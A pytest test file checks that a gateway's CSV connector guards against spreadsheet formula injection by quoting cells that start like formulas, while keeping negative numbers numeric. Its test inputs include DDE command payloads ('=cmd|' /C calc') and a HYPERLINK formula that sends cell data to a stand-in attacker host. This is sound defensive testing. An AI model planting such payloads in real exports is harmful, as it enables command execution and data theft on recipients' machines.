"""CSV deliveries and formula injection: a partner's ``=cmd|' /C calc'!A0`` must reach a spreadsheet as text."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from gateway.connectors import default_registry
from gateway.connectors.folder import FolderConnector
from gateway.connectors.render import guard_formula, to_csv
from gateway.errors import ConfigError
from gateway.testing.connectors import make_item

CALC = "=cmd|' /C calc'!A0"


def order(**line) -> dict:
    return {"document_type": "purchase_order", "po_number": "P1", "lines": [{"line_number": "1", **line}]}


def cells(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def deliver_csv(folder: Path, document: dict, **options) -> bytes:
    return Path(FolderConnector(folder, format="csv", **options).deliver(make_item("k1", document))).read_bytes()


def test_csv_cell_with_a_dde_command_is_delivered_as_text(tmp_path):
    data = deliver_csv(tmp_path, order(description=CALC))
    assert cells(data)[0]["lines.description"] == "'" + CALC
    assert b"\"'=cmd|' /C calc'!A0\"" in data  # the quote is inside the quoted cell


@pytest.mark.parametrize("text", ["=1+2", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
                                  "\t=1+2", "\r=1+2", "\0=1+2", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Error\")", "-", "+A1", "-1e5+A1"])
def test_csv_cell_starting_like_a_formula_is_guarded(tmp_path, text):
    assert cells(deliver_csv(tmp_path, order(description=text)))[0]["lines.description"] == "'" + text


@pytest.mark.parametrize("value", [-5, "-5", -12.5, "-12.50", "+3", "1e-05", -1e-05, "-.5", "0", 0])
def test_csv_negative_quantity_or_credit_amount_stays_a_number(tmp_path, value):
    data = deliver_csv(tmp_path, order(quantity={"value": value}, amount=value))
    row = cells(data)[0]
    assert row["lines.quantity.value"] == row["lines.amount"] == str(value)


@pytest.mark.parametrize("text", ["Bolt M8", "a=b", "x-1", "50% off", "café", "'=already quoted"])
def test_csv_text_that_cannot_start_a_formula_is_untouched(text):
    assert guard_formula(text) == text


def test_csv_owasp_examples_quote_the_whole_cell_and_double_inner_quotes():
    doc = {"document_type": "purchase_order", "a": '=1+2";=1+2', "b": "=1+2'\" ;,=1+2"}
    lines = to_csv(doc).decode("utf-8").split("\r\n")
    assert lines[1] == '"purchase_order","\'=1+2"";=1+2","\'=1+2\'"" ;,=1+2"'
    assert lines[0] == '"document_type","a","b"'


def test_csv_text_with_a_semicolon_cannot_open_a_new_cell(tmp_path):
    """Spreadsheets in some locales split on ';': the cell is quoted, so '=cmd' after the ';' stays inside it."""
    data = deliver_csv(tmp_path, order(description="harmless;=cmd|' /C calc'!A0"))
    assert b'"harmless;=cmd|\' /C calc\'!A0"' in data


def test_csv_column_named_like_a_formula_is_guarded(tmp_path):
    row = cells(deliver_csv(tmp_path, {"document_type": "purchase_order", "=cmd|' /C calc'!A0": "x"}))[0]
    assert row == {"document_type": "purchase_order", "'=cmd|' /C calc'!A0": "x"}


def test_csv_raw_values_when_the_route_turns_the_guard_off(context):
    connector = default_registry(plugins=False).create("folder", {"path": "erp", "format": "csv", "csv_formula_guard": False}, context)
    data = Path(connector.deliver(make_item("k1", order(description=CALC, quantity={"value": "-5"})))).read_bytes()
    assert data.decode("utf-8").split("\r\n")[1] == f"purchase_order,P1,1,{CALC},-5"  # minimal quoting, as before the guard


def test_csv_guard_is_on_by_default_for_a_csv_route(context):
    connector = default_registry(plugins=False).create("folder", {"path": "erp", "format": "csv"}, context)
    data = Path(connector.deliver(make_item("k1", order(description=CALC)))).read_bytes()
    assert cells(data)[0]["lines.description"] == "'" + CALC


@pytest.mark.parametrize(("options", "problem"), [
    ({"format": "csv", "csv_formula_guard": "maybe"}, "here: csv_formula_guard: 'maybe' is not of type 'boolean'"),
    ({"format": "csv", "csv_formula_guard": "no"}, "here: csv_formula_guard: 'no' is not of type 'boolean'"),
    ({"format": "json", "csv_formula_guard": False}, "here: csv_formula_guard: only used with format: csv (this route writes json)"),
])
def test_csv_formula_guard_value_the_connector_cannot_honour_is_refused(context, options, problem):
    with pytest.raises(ConfigError) as caught:
        default_registry(plugins=False).create("folder", {"path": "erp", **options}, context, where="here")
    assert caught.value.problems == [problem]
